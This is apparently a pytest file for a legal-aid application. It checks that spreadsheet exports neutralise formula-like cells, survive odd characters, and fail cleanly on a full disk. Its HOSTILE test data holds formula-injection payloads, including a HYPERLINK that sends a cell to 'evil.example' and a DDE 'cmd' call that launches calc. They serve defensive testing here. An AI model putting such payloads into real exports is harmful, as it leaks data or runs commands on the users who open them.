"""Exports: no cell a spreadsheet program would run as a formula, whatever the database holds
is exported, and a failed export (a full disk) leaves a message and no file behind."""

from __future__ import annotations

import csv
import os
import resource
import shutil
import sqlite3
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest
from openpyxl import load_workbook

from legalaid.context import AppContext
from legalaid.errors import StorageError
from legalaid.home import open_home
from legalaid.services.cases import get_case
from legalaid.services.demo import generate_demo
from legalaid.spreadsheets.exporter import export_file
from legalaid.spreadsheets.importer import import_file
from legalaid.spreadsheets.tabular import csv_safe, csv_unsafe
from tests.core.helpers import family

HOSTILE = {
    "family_names": '=HYPERLINK("http://evil.example/?a="&D2,"Ver")',
    "given_names": "@SUM(1+1)*cmd|' /C calc'!A0",
    "phone": "+52 664 123 4567",
    "shelter": "-2+3",
    "city": "\t=1+1",
    "notes": "\r=1+1",
    "address_mx": "'=ya con apóstrofo",
}


def hostile_case(ctx: AppContext) -> str:
    """A household whose stored text starts like formulas (written straight into the file,
    as an old import or another program could have left it)."""
    case = family(ctx)
    conn = sqlite3.connect(ctx.home.database)
    with conn:
        conn.execute(
            'UPDATE "case" SET phone = ?, shelter = ?, city = ?, notes = ?, address_mx = ? '
            "WHERE id = ?",
            (
                HOSTILE["phone"],
                HOSTILE["shelter"],
                HOSTILE["city"],
                HOSTILE["notes"],
                HOSTILE["address_mx"],
                case.case.id,
            ),
        )
        conn.execute(
            "UPDATE person SET family_names = ?, given_names = ? "
            "WHERE case_id = ? AND position = 0",
            (HOSTILE["family_names"], HOSTILE["given_names"], case.case.id),
        )
    conn.close()
    return case.case.case_number


def test_csv_cells_that_start_like_formulas_are_neutralised(
    ctx: AppContext, tmp_path: Path
) -> None:
    number = hostile_case(ctx)
    export_file(ctx, tmp_path / "todo.csv")
    with (tmp_path / "todo.csv").open(encoding="utf-8-sig", newline="") as stream:
        cells = [cell for row in csv.reader(stream) for cell in row]
    for cell in cells:
        assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), cell
    assert "'" + HOSTILE["family_names"] in cells and "'+52 664 123 4567" in cells
    assert "''=ya con apóstrofo" in cells  # so that importing it gives back exactly the text
    # and the export imports back exactly as stored
    other = open_home(tmp_path / "other", unencrypted=True)
    report = import_file(other, tmp_path / "todo.csv")
    assert report.rejected == [], [r.reason() for r in report.rejected]
    back, mine = get_case(other, number), get_case(ctx, number)
    assert back.people[0].family_names == HOSTILE["family_names"]
    assert back.people[0].given_names == HOSTILE["given_names"]
    assert (back.case.phone, back.case.shelter, back.case.address_mx) == (
        mine.case.phone,
        mine.case.shelter,
        mine.case.address_mx,
    )
    other.close()


def test_xlsx_holds_no_formula_only_text(ctx: AppContext, tmp_path: Path) -> None:
    hostile_case(ctx)
    export_file(ctx, tmp_path / "todo.xlsx")
    book = load_workbook(tmp_path / "todo.xlsx")  # the full reader: formulas kept as formulas
    sheet = book.worksheets[0]
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert cells and all(cell.data_type == "s" for cell in cells)  # not one "f"
    values = {cell.value for cell in cells}
    assert HOSTILE["family_names"] in values and HOSTILE["given_names"] in values


@pytest.mark.parametrize(
    "value", ["=1", "+1", "-1", "@a", "\t1", "\r1", "'", "'=1", "''", "'a", "a=1", "", "''="]
)
def test_the_neutralising_prefix_is_undone_exactly(value: str) -> None:
    assert csv_unsafe(csv_safe(value)) == value


def test_an_export_never_fails_on_what_the_database_holds(ctx: AppContext, tmp_path: Path) -> None:
    case = family(ctx)
    garbage = "".join(chr(c) for c in range(32)) + "\x7f\x85\ufffe\uffff fin"
    conn = sqlite3.connect(ctx.home.database)
    with conn:
        conn.execute('UPDATE "case" SET notes = ? WHERE id = ?', (garbage, case.case.id))
        conn.execute("UPDATE person SET given_names = ?", ("Ana\x0b\x1b",))
    conn.close()
    assert export_file(ctx, tmp_path / "todo.xlsx") == 2
    sheet = load_workbook(tmp_path / "todo.xlsx").worksheets[0]
    notes = sheet.cell(row=2, column=22).value
    assert notes.startswith("␀␁␂") and notes.endswith("\x7f\x85\ufffd\ufffd fin")
    assert sheet.cell(row=2, column=3).value == "Ana␋␛"
    assert export_file(ctx, tmp_path / "todo.csv") == 2


def test_exporting_onto_a_folder_says_what_to_do(ctx: AppContext, tmp_path: Path) -> None:
    family(ctx)
    with pytest.raises(StorageError, match="es una carpeta: indique un nombre de archivo"):
        export_file(ctx, tmp_path)


LEGALAID = [sys.executable, "-m", "legalaid"]


def run_export(
    home: Path, target: Path, limit_bytes: int | None = None
) -> subprocess.CompletedProcess[str]:
    def limit() -> None:
        if limit_bytes is not None:
            resource.setrlimit(resource.RLIMIT_FSIZE, (limit_bytes, limit_bytes))

    return subprocess.run(
        [*LEGALAID, "--home", str(home), "--unencrypted", "export", "-o", str(target)],
        env={**os.environ, "LANG": "es_MX.UTF-8"},
        capture_output=True,
        text=True,
        timeout=120,
        preexec_fn=limit,
    )


@pytest.fixture
def demo_home(tmp_path: Path) -> Path:
    home = tmp_path / "home"
    ctx = open_home(home, unencrypted=True)
    generate_demo(ctx, 1_500, seed=3)
    ctx.close()
    return home


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_a_file_too_large_for_the_disk_leaves_a_message_and_nothing_behind(
    demo_home: Path, tmp_path: Path, suffix: str
) -> None:
    out = tmp_path / "out"
    out.mkdir()
    result = run_export(demo_home, out / f"todo{suffix}", limit_bytes=160 * 1024)
    assert result.returncode == 1
    message = result.stderr.strip()
    assert message.startswith("legalaid: No se puede escribir en ")
    assert message.endswith(": el archivo es demasiado grande para este disco.")
    # the file itself, or the owner-only folder openpyxl streams the sheet through
    where = Path(message.split(" en ", 1)[1].rsplit(": ", 1)[0])
    assert where == out / f"todo{suffix}" or where.name.startswith("legalaid-export-")
    assert list(out.iterdir()) == [] and not where.exists()


@pytest.fixture
def full_disk(tmp_path: Path) -> Iterator[Path]:
    """A 64 KiB disk, a tmpfs (needs root and Linux; skipped elsewhere)."""
    mount = tmp_path / "usb"
    mount.mkdir()
    if shutil.which("mount") is None or os.geteuid() != 0:
        pytest.skip("a small disk needs root's mount")
    made = subprocess.run(
        ["mount", "-t", "tmpfs", "-o", "size=64k,mode=0700", "tmpfs", str(mount)],
        capture_output=True,
    )
    if made.returncode != 0:
        pytest.skip("tmpfs cannot be mounted here")
    try:
        yield mount
    finally:
        subprocess.run(["umount", str(mount)], check=True)


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_a_full_disk_during_export_leaves_a_message_and_nothing_behind(
    demo_home: Path, full_disk: Path, suffix: str
) -> None:
    target = full_disk / f"todo{suffix}"
    result = run_export(demo_home, target)
    assert result.returncode == 1
    assert (
        result.stderr.strip() == f"legalaid: No se puede escribir en {target}: el disco está lleno."
    )
    assert "Traceback" not in result.stderr and "Exception ignored" not in result.stderr
    assert list(full_disk.iterdir()) == []
